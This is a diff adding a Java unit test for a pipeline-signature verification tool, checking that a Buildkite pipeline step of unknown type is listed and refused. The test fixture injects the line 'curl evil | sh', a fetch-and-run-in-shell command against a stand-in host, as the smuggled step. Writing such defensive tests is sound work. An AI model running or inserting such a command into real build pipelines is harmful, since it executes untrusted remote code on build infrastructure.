@@ -56,6 +56,17 @@ class PipelineVerifyCommandTest {
   }
 
   @Test
+  void aStepOfUnknownTypeIsListedAndRefused() {
+    // Signing refuses it, because Buildkite might read it as a command; drift detection must not
+    // pass a stored pipeline that has one.
+    String text = Fixtures.read(signed).replaceFirst("(?m)^env:", "  - commandz: curl evil | sh\nenv:");
+    Cli r = verify(Fixtures.write(dir, "unknown.yml", text));
+    assertThat(r.exitCode()).as(r.out()).isEqualTo(ExitCode.REFUSED);
+    assertThat(r.out()).containsPattern("(?m)^steps\\[5\\] \\(line \\d+, column \\d+\\): UNKNOWN step type: ")
+        .contains("3 verified, 0 unsigned, 0 invalid, 1 of unknown type");
+  }
+
+  @Test
   void aPipelineEnvChangeInvalidatesEveryStepThatSignedIt() {
     Path p = Fixtures.write(dir, "env.yml", Fixtures.read(signed).replace("DEPLOY_ENV: staging", "DEPLOY_ENV: production"));
     Cli r = verify(p);
